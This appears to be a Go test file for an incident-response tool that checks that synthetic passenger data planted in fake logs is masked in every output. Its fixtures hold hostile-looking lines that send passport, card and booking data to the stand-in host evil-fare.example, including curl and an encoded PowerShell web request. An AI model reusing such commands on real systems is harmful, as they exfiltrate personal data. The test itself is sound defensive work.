package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/contrail-ir/contrail/disclosure"
	"github.com/contrail-ir/contrail/drill/evtxwrite"
	"github.com/contrail-ir/contrail/drill/passengers"
)

// plantedPassengers are passengers whose values cannot stand in an output by chance.
func plantedPassengers(n int) (out []passengers.Passenger) {
	hexadecimal := regexp.MustCompile(`^[0-9A-F]+$`)
	g := passengers.New(7001)
	for len(out) < n {
		p := g.Next()
		if len(p.Surname) >= 5 && len(p.Given) >= 5 && !strings.Contains(p.Given+p.Surname, " ") && p.Card != "" && p.Resident != "" && p.FrequentFlyer != "" && !hexadecimal.MatchString(p.Locator) && len(p.Mobile) > 8 {
			out = append(out, p)
		}
	}
	return out
}

// plantedTexts are what a command line, a request or a message can hold of a passenger, with what must not be seen of it.
func plantedTexts(p passengers.Passenger) map[string][]string {
	line1, line2 := p.MRZ()
	query := fmt.Sprintf("pnr=%s&surname=%s&given_names=%s&passport_no=%s", p.Locator, p.Surname, p.Given, p.Passport)
	var wide []byte
	for _, u := range utf16.Encode([]rune("Invoke-WebRequest http://evil-fare.example/?" + query)) {
		wide = append(wide, byte(u), byte(u>>8))
	}
	return map[string][]string{
		"curl http://evil-fare.example/u?" + query: {p.Locator, p.Surname, p.Given, p.Passport},
		"http://evil-fare.example/ SSR DOCS " + p.Carrier + " HK1 /P/GBR/" + p.Passport + "/GBR/12JUL64/M/23AUG29/" + p.Surname + "/" + p.Given:                              {p.Passport, p.Surname, p.Given},
		"scan " + line1 + "\r\n" + line2 + " to http://evil-fare.example/":                                                                                                   {p.Passport, p.Surname, p.Given},
		"http://evil-fare.example/ payment card " + p.Card + " exp 12/30":                                                                                                    {p.Card},
		"http://evil-fare.example/ e-ticket number " + p.Ticket[:3] + "-" + p.Ticket[3:13] + ", 身份证号 " + p.Resident:                                                          {p.Ticket[3:13], p.Resident},
		"http://evil-fare.example/ SSR FQTV " + p.Carrier + " HK1 " + p.FrequentFlyer:                                                                                        {p.FrequentFlyer},
		"http://evil-fare.example/ PNR: " + p.Locator + " " + p.Surname + "/" + p.Given + " " + p.Email + " +" + strings.TrimPrefix(p.Mobile, "+"):                           {p.Locator, p.Surname, p.Given, p.Email, strings.TrimPrefix(p.Mobile, "+")},
		"INSERT INTO pax (surname, given_names, passport_no) VALUES ('" + p.Surname + "','" + p.Given + "','" + p.Passport + "') -- http://evil-fare.example/":               {p.Surname, p.Given, p.Passport},
		"SELECT * FROM b WHERE surname = '" + p.Surname + "' AND pnr = '" + p.Locator + "' -- http://evil-fare.example/":                                                     {p.Surname, p.Locator},
		"powershell -enc " + base64.StdEncoding.EncodeToString(wide) + " http://evil-fare.example/":                                                                          {p.Locator, p.Surname, p.Given, p.Passport},
		"echo TIF+" + p.Surname + "+" + p.Given + "MRS:A:1' >> f; curl http://evil-fare.example/":                                                                            {p.Surname, p.Given},
		`post http://evil-fare.example/ {"surname":"` + p.Surname + `","given":"` + p.Given + `","recordLocator":"` + p.Locator + `","passportNumber":"` + p.Passport + `"}`: {p.Surname, p.Given, p.Locator, p.Passport},
	}
}

// plantedEvidence writes the texts in many formats and gives what must not be seen.
func plantedEvidence(t testing.TB, dir string) (secrets []disclosure.Cut) {
	t.Helper()
	seen := map[string]bool{}
	var texts []string
	for _, p := range plantedPassengers(3) {
		for text, values := range plantedTexts(p) {
			texts = append(texts, text)
			for _, v := range values {
				if !seen[v] {
					seen[v] = true
					secrets = append(secrets, disclosure.Cut{Value: v, Sort: "passenger value"})
				}
			}
		}
	}
	at := time.Date(2026, 3, 2, 3, 4, 0, 0, time.UTC)
	var winlog, web, syslog, table, zeek, leef bytes.Buffer
	var log bytes.Buffer
	w, err := evtxwrite.New(&log)
	if err != nil {
		t.Fatal(err)
	}
	table.WriteString("time,host,user,surname,given_names,date_of_birth,passport_number,pnr,note\n")
	zeek.WriteString("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\tuser_agent\n#types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring\n")
	for i, text := range texts {
		when := at.Add(time.Duration(i) * time.Minute)
		if _, err := w.Write(evtxwrite.Event{Provider: "Microsoft-Windows-Sysmon", ID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "res-db1.alpha.example", Time: when,
			Data: []evtxwrite.Field{{Name: "Image", Value: evtxwrite.String(`C:\Temp\evil.exe`)}, {Name: "CommandLine", Value: evtxwrite.String(text)}, {Name: "User", Value: evtxwrite.String(`ALPHA\svc`)},
				{Name: "ProcessGuid", Value: evtxwrite.String(fmt.Sprintf("{00000000-0000-0000-0000-%012d}", i))}, {Name: "ProcessId", Value: evtxwrite.String(fmt.Sprint(100 + i))}}}); err != nil {
			t.Fatal(err)
		}
		line := strings.NewReplacer("\r\n", " ", "\t", " ").Replace(text)
		j, _ := json.Marshal(map[string]any{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Hostname": "res-db2", "TimeCreated": when.Format(time.RFC3339), "Image": `C:\Temp\evil.exe`, "CommandLine": text})
		winlog.Write(append(j, '\n'))
		fmt.Fprintf(&web, "198.51.100.7 - - [%s] \"GET /x?q=%s HTTP/1.1\" 200 12 \"http://evil-fare.example/\" \"curl/8\"\n", when.Format("02/Jan/2006:15:04:05 -0700"), strings.NewReplacer(" ", "%20", `"`, "%22", "<", "%3C").Replace(line))
		fmt.Fprintf(&syslog, "<13>1 %s web1 app 77 - - %s\n", when.Format(time.RFC3339), line)
		fmt.Fprintf(&zeek, "%d.0\tC%d\t10.0.0.1\t4000\t198.51.100.7\t80\tGET\tevil-fare.example\t/%s\tcurl\n", when.Unix(), i, line)
		fmt.Fprintf(&leef, "CEF:0|Acme|Proxy|1|100|request|5|rt=%d src=10.0.0.1 request=http://evil-fare.example/ msg=%s\n", when.UnixMilli(), strings.ReplaceAll(line, "=", `\=`))
	}
	for i, p := range plantedPassengers(3) {
		fmt.Fprintf(&table, "%s,db1,svc,%s,%s,%s,%s,%s,http://evil-fare.example/\n", at.Add(time.Duration(i)*time.Second).Format(time.RFC3339), p.Surname, p.Given, p.Birth.Format(time.DateOnly), p.Passport, p.Locator)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"sysmon.evtx": log.Bytes(), "winlog.json": winlog.Bytes(), "access.log": web.Bytes(), "syslog": syslog.Bytes(), "export.csv": table.Bytes(), "http.log": zeek.Bytes(), "proxy.cef": leef.Bytes()} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return secrets
}

// leaksIn holds every file below dir, and what was printed, against the secrets.
func leaksIn(t *testing.T, what, dir string, printed []byte, secrets []disclosure.Cut) (leaks []string) {
	t.Helper()
	s, err := disclosure.NewScanner(secrets)
	if err != nil {
		t.Fatal(err)
	}
	look := func(name string, b []byte) {
		found, err := s.Scan(name, bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range found {
			leaks = append(leaks, what+": "+l.String())
		}
	}
	look("terminal", printed)
	err = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		if err == nil {
			look(p, b)
		}
		return err
	})
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return leaks
}

// No passenger value that the detectors recognise is in anything that sweep, trace, coverage, a case, a hand-over or a draft write or print, in any form; with --raw they are.
func TestNoPassengerValueIsWritten(t *testing.T) {
	dir := t.TempDir()
	evidence := filepath.Join(dir, "evidence")
	secrets := plantedEvidence(t, evidence)
	indicators := filepath.Join(dir, "ioc.txt")
	rules := filepath.Join(dir, "rule.yml")
	policy := filepath.Join(dir, "policy.yaml")
	for path, text := range map[string]string{policy: "allow: [evil-fare, evil-fare.example]\nkeep_events: true\n", indicators: "evil-fare.example\n", rules: "title: Evil\nid: 00000000-0000-4000-8000-000000000001\nlevel: high\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s: {Image|endswith: '\\evil.exe'}\n  condition: s\n"} {
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	contrail := func(want int, args ...string) []byte {
		t.Helper()
		var out bytes.Buffer
		if code := run(context.Background(), args, strings.NewReader(""), &out, &out); code != want {
			t.Fatalf("contrail %v exits with %d:\n%s", args, code, out.Bytes())
		}
		return out.Bytes()
	}
	at := func(name string) string { return filepath.Join(dir, name) }
	forms := "csv,timesketch,stix,navigator"

	raw := contrail(0, "sweep", "--raw", "--rows", "0", "--ioc", indicators, "--rules", rules, "--format", forms, "--out", at("raw"), evidence)
	found := leaksIn(t, "raw", at("raw"), raw, secrets)
	for _, s := range secrets {
		b, err := os.ReadFile(filepath.Join(at("raw"), "findings.jsonl"))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(b, []byte(s.Value)) && !bytes.Contains(b, []byte(strings.ReplaceAll(s.Value, "@", "%40"))) {
			t.Errorf("%s was planted and is not even in the raw findings: the test sees nothing", s.Value)
		}
	}
	if len(found) == 0 || !bytes.Contains(raw, []byte("--raw")) {
		t.Error("--raw masks, or does not say that it does not")
	}

	var leaks []string
	printed := contrail(0, "sweep", "--rows", "0", "--ioc", indicators, "--rules", rules, "--format", forms, "--out", at("sweep"), evidence)
	leaks = append(leaks, leaksIn(t, "sweep", at("sweep"), printed, secrets)...)
	for _, name := range []string{"findings.jsonl", "report.html", "findings.csv", "timesketch.jsonl", "timesketch.csv"} {
		masked, err := os.ReadFile(filepath.Join(at("sweep"), name))
		if err != nil || !bytes.Contains(masked, []byte(maskNote)) {
			t.Errorf("%s has nothing masked in it (%v)", name, err)
		}
	}
	a, b := bytes.Count(readFile(t, at("raw/findings.jsonl")), []byte("\n")), bytes.Count(readFile(t, at("sweep/findings.jsonl")), []byte("\n"))
	if a != b || a < 100 {
		t.Errorf("%d findings raw, %d masked", a, b)
	}
	printed = contrail(0, "trace", "--rules", rules, "--from", "sysmon.evtx:1", "--out", at("trace"), evidence)
	leaks = append(leaks, leaksIn(t, "trace", at("trace"), printed, secrets)...)
	printed = contrail(0, "coverage", "show", at("sweep"))
	leaks = append(leaks, leaksIn(t, "coverage", at("none"), printed, secrets)...)
	contrail(0, "expose", "--out", at("exposed"), evidence)
	leaks = append(leaks, leaksIn(t, "expose", at("exposed"), nil, secrets)...)

	t.Setenv("CONTRAIL_KEY", at("keys/anna.key"))
	contrail(0, "keys", "new", "--dir", at("keys"), "anna")
	contrail(0, "keys", "new", "--dir", at("keys"), "ben")
	contrail(0, "case", "new", "--organisation", "CERT", "--why", "test", at("C"))
	contrail(0, "case", "add", "sweep", "--why", "first", at("C"), at("sweep"))
	contrail(0, "case", "add", "trail", "--why", "first", at("C"), at("trace/trail.json"))
	for text := range plantedTexts(plantedPassengers(1)[0]) {
		contrail(0, "case", "add", "note", "--why", text, at("C"), text)
	}
	contrail(0, "case", "add", "number", "--unit", "persons", "--lower", "3", "--basis", "counted in PNR: "+plantedPassengers(1)[0].Locator, "--tlp", "clear", "--owner", "CERT", "--why", "x", at("C"), "passengers")
	leaks = append(leaks, leaksIn(t, "case", at("C"), contrail(0, "case", "timeline", at("C")), secrets)...)
	contrail(0, "case", "report", "--out", at("report.html"), at("C"))
	leaks = append(leaks, leaksIn(t, "case report", at("report.html"), contrail(0, "case", "show", at("C")), secrets)...)
	contrail(0, "case", "verify", at("C"))

	contrail(0, "handover", "--to", at("keys/ben.pub"), "--authority", "Act 12", "--policy", policy, "--why", "as agreed", "--out", at("package"), at("C"), "findings="+at("sweep/findings.jsonl"), "trail="+at("trace/trail.json"))
	contrail(0, "case", "new", "--key", at("keys/ben.key"), "--organisation", "Authority", "--why", "test", at("D"))
	contrail(0, "receive", "--key", at("keys/ben.key"), "--from", at("keys/anna.pub"), "--receipt", at("receipt"), "--why", "as announced", at("D"), at("package"))
	leaks = append(leaks, leaksIn(t, "handover", at("D"), nil, secrets)...)

	// A draft cites what people wrote into the case, learns names from results, and takes the case along as STIX.
	plan := at("plan.yaml")
	if err := os.WriteFile(plan, []byte("audience: authority\nparties: [{organisation: Authority}]\nmarking: {tlp: clear, owners: [CERT]}\ntemplate: authority-report\nlanguage: en\ncites: [passengers]\nsummary: Passengers' data were read.\nactions: [look for it]\nbundle: true\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	printed = contrail(0, "disclose", "draft", "--name", "n1", "--plan", plan, "--learn", "findings="+at("sweep/findings.jsonl"), "--learn", "trail="+at("trace/trail.json"), "--learn", "coverage="+at("sweep/coverage.json"), "--why", "as agreed", "--out", at("draft"), at("C"))
	leaks = append(leaks, leaksIn(t, "disclose draft", at("draft"), printed, secrets)...)
	if notice := readFile(t, at("draft/release/notice.md")); !bytes.Contains(notice, []byte("at least 3 persons")) {
		t.Errorf("the draft does not cite the number:\n%s", notice)
	}

	for i, l := range leaks {
		if i == 40 {
			t.Errorf("… and %d more", len(leaks)-i)
			break
		}
		t.Error(l)
	}
}

func readFile(t testing.TB, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
